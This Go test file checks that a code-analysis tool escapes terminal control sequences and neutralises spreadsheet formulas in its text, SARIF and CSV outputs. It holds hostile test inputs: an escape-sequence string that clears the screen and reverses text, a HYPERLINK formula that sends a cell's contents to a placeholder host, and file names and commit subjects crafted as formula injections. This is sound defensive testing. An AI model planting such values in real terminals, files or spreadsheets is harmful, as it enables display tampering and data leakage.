package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// hostile is what the analysed code may hold to drive a terminal: ESC,
// BEL, the 8-bit CSI U+009B followed by "2J" (clear the screen) and a
// right-to-left override; shown is how every output meant for a terminal
// writes it (vfs.EscapePath: as Go quotes each character).
const (
	hostile = "\x1b\a\u009b2J\u202e"
	shown   = `\x1b\a\u009b2J\u202e`
)

// assertNoHostile fails when any character of hostile reached an output.
func assertNoHostile(t *testing.T, got map[string]string) {
	t.Helper()
	for _, sec := range []string{secStdout, secStderr} {
		for _, r := range hostile {
			if r >= '0' && r <= '9' || r >= 'A' && r <= 'Z' {
				continue
			}
			assert.NotContains(t, got[sec], string(r), "%s holds %U", sec, r)
		}
	}
}

// Terminal escapes in the analysed code (a string an ast-grep message
// quotes and the source lines show, a function name, an ignore
// directive's rule id, a pyproject entry point) reach no terminal: the
// human, text, functions and dir outputs and the errors on stderr show
// them escaped; the source lines keep their tabs; SARIF keeps the exact
// text (it is data).
func TestTerminalEscapesFromTheTree(t *testing.T) {
	work, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	cond := `k == "x` + hostile + `"`
	condShown := `k == "x` + shown + `"`
	method := `"f` + hostile + `"`
	methodShown := `"f` + shown + `"`
	js := "const o = {\n  " + method + "(x) {\n"
	for i := 1; i <= 10; i++ {
		js += fmt.Sprintf("    if (x === %d) return %d;\n", i, i)
	}
	js += "    return 0;\n  },\n};\n"
	writeTree(t, work, map[string]string{
		// Tab-indented: the source lines shown keep their tabs.
		"code/d.py": "def g(k):\n\tif " + cond + ":\n\t\treturn 1\n\telif " + cond + ":\n\t\treturn 2\n\treturn 0\n",
		// Ten ifs: cyclomatic complexity 11, over the threshold of 10.
		"code/w.js":      js,
		"directive/x.py": "value = 1  # scbc ignore[a" + hostile + "]\n",
		"dir/pyproject.toml": "[project]\nname = \"pkg\"\n[project.scripts]\n" +
			`"run\u001b\u0007\u009b2J\u202e" = "pkg.main:go"` + "\n",
		"dir/pkg/__init__.py": "",
		"dir/pkg/main.py":     "def go():\n    return 1\n",
	})
	dupHeader := "warning[duplicated-if-condition]: The condition `" + condShown +
		"` is tested again by a later elif of the same chain; that branch can never run."
	ccHeader := "function `" + methodShown + "` exceeds complexity threshold"
	cases := []struct {
		name   string
		dir    string
		args   []string
		exit   string
		stdout []string // texts stdout's lines must hold, in this order
		stderr string   // all of stderr
	}{
		{
			name: "human output escapes messages, names and source lines but keeps tabs",
			dir:  "code", args: []string{"check", "--languages", "javascript", "."}, exit: "1\n",
			stdout: []string{
				dupHeader,
				"  --> d.py:2:2",
				"1 | def g(k):",
				"2 | \tif " + condShown + ":",
				"3 | \t\treturn 1",
				"4 | \telif " + condShown + ":",
				"warning[cyclomatic-complexity]: " + ccHeader,
				"  --> w.js:2:3",
				"2 |   " + methodShown + "(x) {",
			},
		},
		{
			name: "text output escapes messages and names",
			dir:  "code", args: []string{"check", "--output-format", "text", "--languages", "javascript", "."}, exit: "1\n",
			stdout: []string{
				"d.py:2:2: " + dupHeader,
				"w.js:2:3: warning[cyclomatic-complexity]: " + ccHeader + " (complexity 11 > 10,",
			},
		},
		{
			name: "functions escapes names",
			dir:  "code", args: []string{"functions", "--languages", "javascript", "."}, exit: "0\n",
			stdout: []string{"function  w.js:2:3  " + methodShown},
		},
		{
			name: "an unknown rule id of a directive is escaped in the error",
			dir:  "directive", args: []string{"check", "."}, exit: "2\n",
			stderr: filepath.Join(work, "directive", "x.py") + ":1: unknown rule id: a" + shown + "\n",
		},
		{
			name: "dir escapes an entry point's name",
			dir:  "dir", args: []string{"dir", "."}, exit: "0\n",
			stdout: []string{"entry modules:", "  pkg.main  pkg/main.py ([project.scripts] run" + shown + ")"},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := runBinary(t, filepath.Join(work, c.dir), c.args, nil)
			require.Equal(t, c.exit, got[secExit], got[secStderr])
			assertNoHostile(t, got)
			assert.Equal(t, c.stderr, got[secStderr])
			lines := strings.Split(got[secStdout], "\n")
			at := 0
			for _, want := range c.stdout {
				for at < len(lines) && !strings.Contains(lines[at], want) {
					at++
				}
				if !assert.Less(t, at, len(lines), "stdout lacks %q (in order):\n%s", want, got[secStdout]) {
					return
				}
			}
		})
	}

	t.Run("SARIF keeps the exact text", func(t *testing.T) {
		got := runBinary(t, filepath.Join(work, "code"), []string{"check", "--output-format", "sarif", "--languages", "javascript", "."}, nil)
		require.Equal(t, "1\n", got[secExit], got[secStderr])
		var log struct {
			Runs []struct {
				Results []struct {
					Message struct{ Text string } `json:"message"`
				} `json:"results"`
			} `json:"runs"`
		}
		require.NoError(t, json.Unmarshal([]byte(got[secStdout]), &log))
		require.Len(t, log.Runs, 1)
		var texts strings.Builder
		for _, r := range log.Runs[0].Results {
			texts.WriteString(r.Message.Text + "\n")
		}
		assert.Contains(t, texts.String(), "The condition `"+cond+"` is tested again by a later elif of the same chain; that branch can never run.\n")
		assert.Contains(t, texts.String(), "function `"+method+"` exceeds complexity threshold (complexity 11 > 10,")
	})
}

// csvRowsT parses a CSV output into rows of cells keyed by the header's
// names.
func csvRowsT(t *testing.T, out string) []map[string]string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err, out)
	require.NotEmpty(t, records)
	var rows []map[string]string
	for _, rec := range records[1:] {
		row := map[string]string{}
		for k, name := range records[0] {
			row[name] = rec[k]
		}
		rows = append(rows, row)
	}
	return rows
}

// The CSV outputs write what comes from the tree (a commit subject, a
// file name) as text a spreadsheet will not run and a terminal will not
// act on: a leading =, +, -, @ gets a quote, controls are escaped; the
// numbers stay numbers, a negative delta included.
func TestCSVCellsAreText(t *testing.T) {
	work, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)

	t.Run("trajectory", func(t *testing.T) {
		repo := filepath.Join(work, "repo")
		newRepoT(t, repo)
		// Ten ifs: CC 11, the only function, so erosion is 1; then CC 1,
		// erosion 0: delta_erosion is -1.
		branchy := "def f(x):\n"
		for i := 1; i <= 10; i++ {
			branchy += fmt.Sprintf("    if x == %d:\n        return %d\n", i, i)
		}
		branchy += "    return 0\n"
		formula := `=HYPERLINK("http://e.example/?"&A1,"x")`
		commitT(t, repo, formula+hostile, map[string]string{"a.py": branchy})
		commitT(t, repo, "-2+3", map[string]string{"a.py": "def f(x):\n    return x\n"})
		got := runBinary(t, work, []string{"trajectory", "--git", "repo", "--disable-sg", "--output-format", "csv"}, nil)
		require.Equal(t, "0\n", got[secExit], got[secStderr])
		assertNoHostile(t, got)
		rows := csvRowsT(t, got[secStdout])
		require.Len(t, rows, 2)
		assert.Equal(t, "'"+formula+shown, rows[0]["subject"])
		assert.Equal(t, "'-2+3", rows[1]["subject"])
		assert.Equal(t, "1", rows[0]["erosion"])
		assert.Equal(t, "0", rows[1]["erosion"])
		assert.Equal(t, "-1", rows[1]["delta_erosion"], "a negative delta is a number, not quoted text")
	})

	t.Run("functions", func(t *testing.T) {
		dir := filepath.Join(work, "tree")
		writeTree(t, dir, map[string]string{
			"=1+2" + hostile + ".py": "def f():\n    return 1\n",
			"@g.py":                  "def g():\n    return 2\n",
		})
		got := runBinary(t, dir, []string{"functions", "--output-format", "csv", "."}, nil)
		require.Equal(t, "0\n", got[secExit], got[secStderr])
		assertNoHostile(t, got)
		rows := csvRowsT(t, got[secStdout])
		require.Len(t, rows, 2)
		assert.Equal(t, "'=1+2"+shown+".py", rows[0]["path"])
		assert.Equal(t, "'@g.py", rows[1]["path"])
		assert.Equal(t, "f", rows[0]["name"])
		assert.Equal(t, "1", rows[0]["cc"])
	})
}
